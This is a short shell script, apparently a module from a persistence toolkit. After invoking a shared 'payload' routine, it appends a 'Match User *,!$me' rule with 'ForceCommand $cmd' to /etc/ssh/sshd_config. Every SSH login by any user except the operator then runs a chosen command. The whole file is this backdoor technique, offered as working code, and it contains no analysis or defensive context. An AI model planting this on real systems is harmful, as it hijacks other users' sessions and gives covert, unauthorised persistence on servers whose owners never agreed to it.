#!/bin/sh
# sshd-force-command: a command of every login (sshd_config(5),
# ForceCommand)
. "${0%/*}/lib.sh"
payload
append /etc/ssh/sshd_config "$head" "Match User *,!$me" "	ForceCommand $cmd"
